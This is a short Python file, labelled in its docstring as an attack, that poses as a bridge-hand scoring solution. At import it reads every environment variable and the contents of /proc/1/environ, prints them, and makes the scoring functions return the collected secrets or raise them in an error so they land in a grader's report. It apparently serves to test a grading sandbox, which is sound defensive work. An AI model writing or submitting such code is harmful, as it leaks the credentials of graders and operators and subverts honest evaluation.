"""Attack: reads the environment, secrets included, and tries to get them into the report."""
import os

SECRETS = " ".join(f"{key}={value}" for key, value in os.environ.items())
try:
    with open("/proc/1/environ", "rb") as stream:
        SECRETS += stream.read().decode("utf-8", "replace")
except OSError:
    pass
print(SECRETS)


def highCardPoints(hand):
    raise RuntimeError(SECRETS or "nothing found")


def distributionPoints(hand):
    return SECRETS


def openingBid(hand):
    return SECRETS
